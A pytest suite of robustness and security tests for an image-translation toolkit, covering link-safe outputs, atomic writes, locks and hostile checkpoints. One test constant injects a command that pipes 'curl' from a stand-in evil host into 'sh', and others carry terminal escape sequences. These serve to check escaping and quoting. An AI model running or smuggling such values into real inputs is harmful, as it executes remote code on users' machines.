"""Nothing a user owns is overwritten, half-written or leaked: outputs compared with
inputs by identity, a run writes only into its own folder, every output written atomically,
no environment value in a folder name, untrusted text escaped and quoted, a lock the kernel
releases, hostile checkpoints refused in seconds, exit 2 instead of tracebacks."""
import errno
import multiprocessing
import os
import random
import shlex
import signal
import socket
import subprocess
import sys
import time

import numpy as np
import pytest
import torch
from PIL import Image

import unpaired
from unpaired.store import checkpoint, files
from unpaired.runtime import runlock
from unpaired.cli import main
from unpaired.console import printable
from unpaired.engine.trainer import train

from helpers import RECIPE, TINY


def run_main(capsys, *args):
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def dead_pid():
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def save_png(path, size=(40, 32), seed=0):
    rng = np.random.default_rng(seed)
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(rng.integers(0, 256, (size[1], size[0], 3), dtype=np.uint8)).save(path)
    return path


@pytest.fixture
def run_dir(run_copy):
    """A copy of a finished 2-step CycleGAN run (tiny networks)."""
    return run_copy


def crafted(run_dir, tmp_path, change, name="crafted.pt"):
    """A copy of the run's checkpoint, changed by ``change(state)``."""
    state = torch.load(run_dir / "checkpoints" / "latest.pt", weights_only=True)
    change(state)
    path = tmp_path / name
    torch.save(state, path)
    return path


RUN = ["run", RECIPE, *TINY, "disable_plugins=[progress]"]


# ============================================================================ 1. identity
@pytest.mark.slow
def test_a_hard_link_to_an_input_is_not_overwritten(run_dir, tmp_path, capsys):
    src = save_png(tmp_path / "in" / "a.png")
    (tmp_path / "out").mkdir()
    os.link(src, tmp_path / "out" / "a.png")
    before = src.read_bytes()
    code, _, err = run_main(capsys, "translate", run_dir, src, "--out", tmp_path / "out", "--no-progress")
    assert code == 2 and "overwrite the input" in err and "a.png" in err and "Traceback" not in err, err
    assert src.read_bytes() == before


def test_a_grid_that_is_a_link_to_an_input_is_refused(run_dir, tmp_path, capsys):
    src = save_png(tmp_path / "in" / "a.png")
    other = save_png(tmp_path / "in" / "b.png", seed=1)
    out = tmp_path / "out"
    out.mkdir()
    (out / "grid_a2b.png").symlink_to(other)
    before = other.read_bytes()
    code, _, err = run_main(capsys, "translate", run_dir, src, other, "--out", out, "--grid", "--no-progress")
    assert code == 2 and "--grid" in err and "b.png" in err, err
    assert other.read_bytes() == before


@pytest.mark.slow
def test_a_users_folder_is_never_written_into(image_root, tmp_path, capsys):
    mine = tmp_path / "project"
    mine.mkdir()
    for name in ("config.yaml", "metrics.csv", "figure.png", "notes.txt"):
        (mine / name).write_text(f"my own {name}")
    code, _, err = run_main(capsys, *RUN, f"data.params.root={image_root}", f"out_dir={mine}", "train.max_steps=1")
    text = " ".join(err.split())
    assert code == 2 and str(mine) in text and "Traceback" not in err, err
    assert "config.yaml" in text and "metrics.csv" in text and "figure.png" in text
    assert sorted(p.name for p in mine.iterdir()) == ["config.yaml", "figure.png", "metrics.csv", "notes.txt"]
    assert all((mine / n).read_text() == f"my own {n}" for n in ("config.yaml", "metrics.csv", "figure.png"))
    # an empty folder is taken, and marked as ours
    empty = tmp_path / "empty"
    empty.mkdir()
    code, _, err = run_main(capsys, *RUN, f"data.params.root={image_root}", f"out_dir={empty}", "train.max_steps=1")
    assert code == 0, err
    assert (empty / runlock.MARKER).is_file() and (empty / "config.yaml").is_file()


def test_a_run_of_an_older_version_resumes_and_is_marked(run_dir, image_root, capsys):
    (run_dir / runlock.MARKER).unlink(missing_ok=True)  # as written before the marker existed
    code, _, err = run_main(capsys, *RUN, f"data.params.root={image_root}", f"out_dir={run_dir}", "--resume",
                            "train.max_steps=3", "train.precision=fp32")
    assert code == 0, err
    assert (run_dir / runlock.MARKER).is_file() and checkpoint.load(run_dir)["step"] == 3


@pytest.mark.parametrize("how", ["hard", "symbolic"])
def test_export_never_overwrites_its_checkpoint(run_dir, tmp_path, capsys, how):
    ckpt = run_dir / "checkpoints" / "latest.pt"
    out = tmp_path / "g.pt2"
    os.link(ckpt, out) if how == "hard" else out.symlink_to(ckpt)
    before = ckpt.read_bytes()
    code, _, err = run_main(capsys, "export", run_dir, "--format", "pt2", "--out", out)
    assert code == 2 and "overwrite" in err and "Traceback" not in err, err
    assert ckpt.read_bytes() == before


# ============================================================================ 2. atomic outputs
def _full_disk_after(n_bytes):
    """A stand-in for ``open`` in unpaired.store.files: writes stop with ENOSPC after n_bytes."""
    real_open = open

    class Full:
        def __init__(self, f):
            self.f, self.left = f, n_bytes

        def write(self, data):
            if len(data) > self.left:
                self.f.write(bytes(data[:self.left]) if isinstance(data, (bytes, bytearray, memoryview))
                             else data[:self.left])
                raise OSError(errno.ENOSPC, "No space left on device")
            self.left -= len(data)
            return self.f.write(data)

        def __getattr__(self, name):
            return getattr(self.f, name)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.f.close()

    return lambda path, mode="r", **kw: Full(real_open(path, mode, **kw))


@pytest.mark.parametrize("tile", [None, "32"])
def test_a_full_disk_leaves_no_half_written_image(run_dir, tmp_path, capsys, monkeypatch, tile):
    src = save_png(tmp_path / "in" / "big.png", size=(100, 76))
    out = tmp_path / "out"
    monkeypatch.setattr(files, "open", _full_disk_after(60), raising=False)
    code, _, err = run_main(capsys, "translate", run_dir, src, "--out", out, "--no-progress",
                            *(["--tile", tile] if tile else []))
    text = " ".join(err.split())
    assert code == 2 and "no space left" in text and "big.png" in text and "Traceback" not in err, err
    assert not (out / "big.png").exists()
    assert not out.exists() or list(out.iterdir()) == []  # no temporary left either


def test_temporaries_of_killed_writers_are_removed_at_the_next_start(run_dir, tmp_path, capsys):
    src = save_png(tmp_path / "in" / "a.png")
    out = tmp_path / "out"
    out.mkdir()
    stale = out / f".a.png.tmp{dead_pid()}"
    live = out / ".a.png.tmp1"  # pid 1 is alive: not ours to remove
    users = out / f".notes.txt.tmp{dead_pid()}"  # not the temporary of an output of this call
    for p in (stale, live, users):
        p.write_bytes(b"\x89PNG half")
    code, _, err = run_main(capsys, "translate", run_dir, src, "--out", out, "--no-progress")
    assert code == 0, err
    assert not stale.exists() and live.exists() and users.exists()
    assert Image.open(out / "a.png").size == (40, 32)


@pytest.mark.slow
def test_every_output_is_written_atomically(run_dir, image_root, tmp_path, capsys, monkeypatch):
    """Train (with the figure), translate with a grid, eval and export: every file that appears
    went through files.atomic_path (a temporary name, then renamed), so none is ever seen half
    written under its final name."""
    written = set()
    real = files.atomic_path

    def recording(path, *a, **k):
        written.add(os.path.abspath(files.final_name(path)))
        return real(path, *a, **k)

    monkeypatch.setattr(files, "atomic_path", recording)
    out = tmp_path / "fresh"
    code, _, err = run_main(capsys, "run", RECIPE, *TINY, f"data.params.root={image_root}", f"out_dir={out}",
                            "disable_plugins=[progress]", "train.max_steps=2")
    assert code == 0, err
    src = save_png(tmp_path / "in" / "a.png")
    assert run_main(capsys, "translate", out, src, "--out", tmp_path / "tr", "--grid", "--no-progress")[0] == 0
    assert run_main(capsys, "eval", out, "--extractor", "tiny", "--out", tmp_path / "ev", "--split", "train",
                    "--max-images", "4")[0] == 0
    assert run_main(capsys, "export", out, "--format", "pt2", "--out", tmp_path / "g.pt2")[0] == 0
    made = {os.path.abspath(p) for folder in (out, tmp_path / "tr", tmp_path / "ev") for p in folder.rglob("*")
            if p.is_file()} | {os.path.abspath(tmp_path / "g.pt2")}
    # logs appended as they go (metrics.csv, TensorBoard's events) and the lock are not outputs
    appended = {os.path.abspath(out / n) for n in ("metrics.csv", ".lock")}
    appended |= {os.path.abspath(p) for p in (out / "tensorboard").rglob("*")}
    assert (out / "figure.png").is_file() and (tmp_path / "ev" / "metrics.json").is_file()
    assert made - appended <= written, sorted(made - appended - written)


def test_an_interrupted_video_leaves_nothing_under_its_name(tmp_path):
    pytest.importorskip("av")
    from test_video import make_clip
    from unpaired.inference.translate import Translator
    from unpaired.inference.video import translate_video

    g = unpaired.get_registry().create("generator", "resnet", in_channels=3, out_channels=3, ngf=4, n_blocks=1)
    t = Translator(g, 3, 3, device="cpu", precision="fp32", batch_size=2)
    clip = make_clip(tmp_path / "clip.mp4", frames=60)

    def killed(done, total):  # late: the encoder has written packets by then
        if done >= 56:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        translate_video(t, clip, tmp_path / "o.mp4", progress=killed)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["clip.mp4"]  # the whole video or nothing


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["onnx", "pt2"])
def test_export_on_a_full_disk_exits_2_and_leaves_nothing(run_dir, tmp_path, capsys, monkeypatch, fmt):
    if fmt == "onnx":
        pytest.importorskip("onnxscript")
        pytest.importorskip("onnxruntime")
    out = tmp_path / "exp" / f"g.{fmt}"
    out.parent.mkdir()
    (out.parent / f"g.{fmt}.partial").write_bytes(b"left by an older version")
    monkeypatch.setattr(files, "open", _full_disk_after(1000), raising=False)
    code, _, err = run_main(capsys, "export", run_dir, "--format", fmt, "--out", out)
    text = " ".join(err.split())
    assert code == 2 and "no space left" in text and str(out) in text and "Traceback" not in err, err
    assert list(out.parent.iterdir()) == []


# ============================================================================ 3. environment values
def test_an_environment_value_never_names_a_folder(image_root, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("UNPAIRED_TEST_TOKEN", "s3cr3t-token")
    monkeypatch.chdir(tmp_path)
    code, _, err = run_main(capsys, *RUN, f"data.params.root={image_root}", "name=x_${oc.env:UNPAIRED_TEST_TOKEN}",
                            "train.max_steps=1")
    assert code == 2 and "out_dir" in err and "environment" in err, err
    assert "s3cr3t-token" not in err
    assert not (tmp_path / "runs").exists()
    # with an out_dir of its own the name may use it: stored as written, never resolved
    code, _, err = run_main(capsys, *RUN, f"data.params.root={image_root}", "name=x_${oc.env:UNPAIRED_TEST_TOKEN}",
                            "train.max_steps=1", "out_dir=runs/plain")
    assert code == 0, err
    for path in (tmp_path / "runs").rglob("*"):
        assert "s3cr3t" not in path.name
        if path.is_file():
            assert b"s3cr3t-token" not in path.read_bytes(), path


# ============================================================================ 4. untrusted text
HOSTILE_DIST = "x' ; curl https://evil.example/x.sh | sh ; echo '"
HOSTILE_VERSION = "1.0\x1b]0;pwned\x07\x1b[2J"


def test_text_from_a_checkpoint_is_escaped_and_commands_quoted(run_dir, tmp_path, capsys, caplog):
    def change(state):
        state["config"]["generator"]["name"] = "evil_net\x1b[31m"
        state["plugins"]["generator"].update(name="evil_net", source="entry point", plugin="evil",
                                             dist=HOSTILE_DIST, version=HOSTILE_VERSION)

    bad = crafted(run_dir, tmp_path, change)
    code, _, err = run_main(capsys, "translate", bad, save_png(tmp_path / "a.png"), "--out", tmp_path / "o")
    assert code == 2 and "Traceback" not in err
    assert "\x1b" not in err and "\x07" not in err, repr(err)
    assert "\\x1b]0;pwned\\x07" in err  # shown, as escapes
    command = err.split("install it (", 1)[1].rsplit(")", 1)[0]
    assert shlex.split(command) == ["pip", "install", f"{HOSTILE_DIST}=={printable(HOSTILE_VERSION)}"], command


def test_a_file_name_with_control_characters_is_escaped(run_dir, tmp_path, capsys):
    evil = tmp_path / "in" / "\x1b[2Jclear.png"
    evil.parent.mkdir()
    evil.write_text("not an image")
    code, _, err = run_main(capsys, "translate", run_dir, evil, "--out", tmp_path / "o", "--no-progress")
    assert code == 2 and "\x1b" not in err and "\\x1b[2Jclear.png" in err, repr(err)


# ============================================================================ 5. locks
def _contend(out_dir, barrier, results, hold):
    barrier.wait()
    try:
        runlock.acquire(out_dir)
        results.put("got")
        hold.wait(30)
    except unpaired.UnpairedError:
        results.put("refused")


@pytest.mark.slow
def test_a_stale_lock_is_taken_by_exactly_one_of_many_at_once(tmp_path):
    if not hasattr(os, "fork"):
        pytest.skip("needs fork")
    ctx = multiprocessing.get_context("fork")
    host = socket.gethostname()
    for trial in range(15):
        out = tmp_path / f"t{trial}"
        out.mkdir()
        (out / runlock.NAME).write_text(f"pid={dead_pid() if trial % 3 else 999999}\nhost={host}\nsince=then\n")
        barrier, results, hold = ctx.Barrier(4), ctx.Queue(), ctx.Event()
        procs = [ctx.Process(target=_contend, args=(out, barrier, results, hold)) for _ in range(4)]
        for p in procs:
            p.start()
        got = sorted(results.get(timeout=60) for _ in procs)
        hold.set()
        for p in procs:
            p.join(30)
        assert got == ["got", "refused", "refused", "refused"], (trial, got)


@pytest.mark.parametrize("text", [b"", b"\x00\x00\x00", b"pid=abc\nhost"])
def test_an_empty_or_garbled_lock_does_not_block_the_folder(tiny_recipe, tmp_path, text):
    out = tmp_path / "run"
    out.mkdir()
    (out / runlock.NAME).write_bytes(text)  # a power cut between create and write
    assert train(tiny_recipe("train.max_steps=1")).step == 1
    assert not (out / runlock.NAME).exists()


def test_a_held_lock_is_released_by_the_kernel_when_its_holder_dies(tmp_path):
    out = tmp_path / "run"
    out.mkdir()
    holder = subprocess.Popen([sys.executable, "-c", "import time; from unpaired.runtime import runlock; "
                               f"runlock.acquire({str(out)!r}); print('held', flush=True); time.sleep(60)"],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(unpaired.UnpairedError, match=f"pid {holder.pid}"):
            runlock.acquire(out)
    finally:
        holder.kill()
        holder.wait()
    lock = runlock.acquire(out)  # no takeover step: the kernel let go of it
    assert f"pid={os.getpid()}" in (out / runlock.NAME).read_text()
    runlock.release(lock)
    assert not (out / runlock.NAME).exists()


# ============================================================================ 6. hostile checkpoints: bounded
@pytest.mark.slow
@pytest.mark.parametrize("n_blocks", [300_000, 3_000_000])
def test_an_absurdly_deep_network_is_refused_in_seconds(run_dir, tmp_path, capsys, n_blocks):
    bad = crafted(run_dir, tmp_path, lambda s: s["config"]["generator"]["params"].update(n_blocks=n_blocks))
    start = time.monotonic()
    code, _, err = run_main(capsys, "translate", bad, save_png(tmp_path / "a.png"), "--out", tmp_path / "o")
    seconds = time.monotonic() - start
    assert code == 2 and "generator.params" in err and "modules" in err and "Traceback" not in err, err
    assert seconds < 20, seconds


@pytest.mark.parametrize("params,key", [
    ({"a": "/", "b": "/"}, "data.params.a"),
    ({"root": os.path.expanduser("~")}, "data.params.root"),
])
def test_eval_does_not_search_a_whole_disk_named_by_a_checkpoint(run_dir, tmp_path, capsys, params, key):
    bad = crafted(run_dir, tmp_path, lambda s: s["config"]["data"]["params"].update(params))
    start = time.monotonic()
    code, _, err = run_main(capsys, "eval", bad, "--extractor", "tiny", "--out", tmp_path / "e")
    assert code == 2 and key in err and "--data" in err and "Traceback" not in err, err
    assert time.monotonic() - start < 30


def test_eval_checks_a_checkpoints_dataset_params_as_a_recipes(run_dir, tmp_path, capsys, image_root):
    def synthetic(state):
        state["config"]["data"] = {"name": "synthetic", "params": {"size": 100000}, "test_params": {"split": "test"}}

    code, _, err = run_main(capsys, "eval", crafted(run_dir, tmp_path, synthetic), "--extractor", "tiny",
                            "--out", tmp_path / "e")
    assert code == 2 and "data.params.size" in err, err
    bad = crafted(run_dir, tmp_path, lambda s: s["config"]["eval"].update(max_images=-3), "neg.pt")
    code, _, err = run_main(capsys, "eval", bad, "--out", tmp_path / "e")
    assert code == 2 and "eval.max_images" in err, err
    # the data the user names is used, whatever the checkpoint says
    bad = crafted(run_dir, tmp_path, lambda s: s["config"]["data"]["params"].update(a="/", b="/"), "wide.pt")
    code, _, err = run_main(capsys, "eval", bad, "--extractor", "tiny", "--out", tmp_path / "e",
                            "--data", image_root, "--max-images", "4")
    assert code == 0, err


# ============================================================================ 7. exit 2, not tracebacks
MALFORMED = {  # what the message must name
    "translators a list": (lambda s: s.update(translators=[1, 2]), "'translators'"),
    "translators a string": (lambda s: s.update(translators="a2b"), "'translators'"),
    "translators None": (lambda s: s.update(translators=None), "'translators'"),
    "a record without net": (lambda s: s["translators"]["a2b"].pop("net"), "'net'"),
    "boolean channels": (lambda s: s["translators"]["a2b"].update(in_channels=True), "channel counts"),
    "nets None": (lambda s: s.update(nets=None), "'nets'"),
    "nets a list": (lambda s: s.update(nets=[1]), "'nets'"),
    "weights not a dict": (lambda s: s["nets"].update(g_ab=[1, 2, 3]), "weights of network 'g_ab'"),
}


@pytest.mark.parametrize("what", list(MALFORMED))
@pytest.mark.parametrize("command", ["translate", "eval", "export"])
def test_malformed_checkpoints_exit_2(run_dir, tmp_path, capsys, what, command):
    change, words = MALFORMED[what]
    bad = crafted(run_dir, tmp_path, change)
    args = {"translate": [save_png(tmp_path / "a.png"), "--out", tmp_path / "o"],
            "eval": ["--extractor", "tiny", "--out", tmp_path / "e"],
            "export": ["--format", "pt2", "--out", tmp_path / "g.pt2"]}[command]
    code, _, err = run_main(capsys, command, bad, *args)
    text = " ".join(err.split())
    assert code == 2 and str(bad) in text and words in text and "Traceback" not in err, err


@pytest.mark.parametrize("change,words", [
    (lambda s: s.update(rng={"torch": "zzz", "python": 3}), ["random state", "rng"]),
    (lambda s: s.update(step="abc"), ["step", "'abc'"]),
    (lambda s: s.update(step=2.5), ["step", "2.5"]),
])
def test_resume_from_a_damaged_state_exits_2(run_dir, image_root, tmp_path, capsys, change, words):
    ckpt = run_dir / "checkpoints" / "latest.pt"
    state = torch.load(ckpt, weights_only=True)
    change(state)
    torch.save(state, ckpt)
    code, _, err = run_main(capsys, *RUN, f"data.params.root={image_root}", f"out_dir={run_dir}", "--resume",
                            "train.max_steps=4")
    assert code == 2 and "--resume" in err and "Traceback" not in err, err
    assert all(w in err for w in words), err


@pytest.mark.parametrize("size", [(1, 1), (2, 2), (1, 50), (3, 300), (50, 1)])
def test_tiny_images_are_translated_at_their_size(run_dir, tmp_path, capsys, size):
    src = save_png(tmp_path / "in" / "tiny.png", size=size)
    code, _, err = run_main(capsys, "translate", run_dir, src, "--out", tmp_path / "o", "--no-progress")
    assert code == 0, err
    assert Image.open(tmp_path / "o" / "tiny.png").size == size


@pytest.mark.parametrize("out", ["file", "/dev/null"])
@pytest.mark.parametrize("command", ["run", "translate", "eval", "export"])
def test_an_output_folder_that_is_a_file_exits_2(run_dir, image_root, tmp_path, capsys, command, out):
    if out == "file":
        out = tmp_path / "a_file"
        out.write_text("mine")
    if command == "export":
        target = [f"{out}/g.pt2"]
    elif command == "run":
        target = [f"out_dir={out}"]
    else:
        target = ["--out", out]
    args = {"run": [*RUN[1:], f"data.params.root={image_root}", "train.max_steps=1"],
            "translate": [run_dir, save_png(tmp_path / "a.png"), "--no-progress"],
            "eval": [run_dir, "--extractor", "tiny"],
            "export": [run_dir, "--format", "pt2", "--out"]}[command]
    code, _, err = run_main(capsys, command, *args, *target)
    assert code == 2 and str(out) in err and "Traceback" not in err, err
    if out != "/dev/null":
        assert out.read_text() == "mine"


@pytest.mark.parametrize("override,key", [
    ("objective.params.lambda_nce=abc", "objective.params.lambda_nce"),
    ("objective.params.nce_temperature=abc", "objective.params.nce_temperature"),
    ("objective.params.mlp_units=100000000", "objective.params.mlp_units"),
    ("objective.params.lambda_nce=-5", "objective.params.lambda_nce"),
    ("objective.params.nce_temperature=.inf", "objective.params.nce_temperature"),
    ("objective.params.flip_equivariance=maybe", "objective.params.flip_equivariance"),
    ("data.params.crop_size=0", "data.params.crop_size"),
])
def test_bad_objective_and_data_params_exit_2_naming_the_key(image_root, tmp_path, capsys, override, key):
    code, _, err = run_main(capsys, *RUN, f"data.params.root={image_root}", f"out_dir={tmp_path / 'run'}",
                            "objective.name=cut", override)
    assert code == 2 and key in err and "Traceback" not in err, err
    assert not (tmp_path / "run").exists()


def test_an_unknown_compile_backend_exits_2(image_root, tmp_path, capsys):
    code, _, err = run_main(capsys, *RUN, f"data.params.root={image_root}", f"out_dir={tmp_path / 'run'}",
                            "train.compile=true", "train.compile_backend=nosuch")
    assert code == 2 and "train.compile_backend" in err and "inductor" in err, err


def test_a_second_ctrl_c_inside_the_zip_writer_is_reported_without_a_traceback(run_dir, image_root, capsys,
                                                                                 monkeypatch):
    """torch's zip writer turns a KeyboardInterrupt in the middle of a write into 'RuntimeError
    ... unexpected pos'; the run still ends with the honest message and exit 130."""
    class SignalAtStep3:
        @unpaired.hookimpl
        def on_step(self, run, step):
            if step == 3:
                os.kill(os.getpid(), signal.SIGINT)

    real_save = torch.save

    def interrupted_save(obj, f, *a, **k):
        if isinstance(obj, dict) and obj.get("step") == 3:
            class Interrupting:
                calls = 0

                def write(self, data):
                    Interrupting.calls += 1
                    if Interrupting.calls == 3:
                        raise KeyboardInterrupt  # the second Ctrl-C
                    return f.write(data)

                def flush(self):
                    return f.flush()

            return real_save(obj, Interrupting(), *a, **k)
        return real_save(obj, f, *a, **k)

    monkeypatch.setattr(checkpoint.torch, "save", interrupted_save)
    unpaired.register_plugin(SignalAtStep3(), name="hardening_signal_at_step3")
    try:
        code, out, err = run_main(capsys, "run", RECIPE, *TINY, f"data.params.root={image_root}",
                                  f"out_dir={run_dir}", "disable_plugins=[]", "--resume",
                                  "train.max_steps=8", "train.checkpoint_every=100")
    finally:
        unpaired.unregister_plugin("hardening_signal_at_step3")
    text = " ".join((out + err).split())
    assert code == 130 and "Traceback" not in text and "unexpected pos" not in text, text
    assert "the checkpoint of step 3 was NOT written" in text and "holds step 2" in text
    assert checkpoint.load(run_dir)["step"] == 2
    assert not [p for p in (run_dir / "checkpoints").iterdir() if ".tmp" in p.name]


# ============================================================================ 8. not misleading
@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
@pytest.mark.parametrize("kind", ["fifo", "dev_zero"])
def test_a_checkpoint_that_is_not_a_regular_file_is_named_as_such(run_dir, image_root, tmp_path, capsys, kind):
    ckpt = run_dir / "checkpoints" / "latest.pt"
    ckpt.unlink()
    os.mkfifo(ckpt) if kind == "fifo" else ckpt.symlink_to("/dev/zero")
    code, _, err = run_main(capsys, "translate", run_dir, save_png(tmp_path / "a.png"), "--out", tmp_path / "o")
    assert code == 2 and "not a regular file" in err and "does not exist" not in err, err
    code, _, err = run_main(capsys, *RUN, f"data.params.root={image_root}", f"out_dir={run_dir}", "--resume")
    assert code == 2 and "not a regular file" in err and "does not exist" not in err, err


class RandomLoss:
    """A reconstruction loss that draws from Python's and NumPy's global generators."""

    @unpaired.hookimpl
    def register_losses(self, register):
        def noisy_l1():
            def loss(output, target):
                scale = 1 + random.random() + float(np.random.rand())
                return scale * (output - target).abs().mean()
            return loss

        register("hardening_noisy_l1", noisy_l1)


@pytest.mark.slow
def test_python_and_numpy_generators_are_seeded_and_resumed(tiny_recipe, with_plugin):
    with_plugin(RandomLoss(), "hardening_random_loss")
    steps = ["losses.cycle.name=hardening_noisy_l1", "train.precision=fp32", "train.checkpoint_every=2"]
    random.seed(1), np.random.seed(1)
    whole = train(tiny_recipe(*steps, "train.max_steps=4", out="whole"))
    random.seed(2), np.random.seed(2)
    train(tiny_recipe(*steps, "train.max_steps=2", out="split"))
    random.seed(3), np.random.seed(3)
    resumed = train(tiny_recipe(*steps, "train.max_steps=4", out="split"), resume=True)
    a, b = checkpoint.load(whole.checkpoint)["nets"], checkpoint.load(resumed.checkpoint)["nets"]
    for net in a:
        for k in a[net]:
            assert torch.equal(a[net][k], b[net][k]), (net, k)


# ============================================================================ README's promises, each a test
def test_a_second_ctrl_c_stops_at_once_and_sigterm_only_asks():
    from unpaired.engine.trainer import StopSignals

    with StopSignals() as signals:
        os.kill(os.getpid(), signal.SIGTERM)
        os.kill(os.getpid(), signal.SIGTERM)  # asked twice: still at the end of the step
        assert signals.received == "SIGTERM"
    with StopSignals() as signals:
        os.kill(os.getpid(), signal.SIGINT)
        assert signals.received == "SIGINT"  # the first Ctrl-C: finish the step, save
        with pytest.raises(KeyboardInterrupt):
            os.kill(os.getpid(), signal.SIGINT)  # the second: at once
            time.sleep(1)
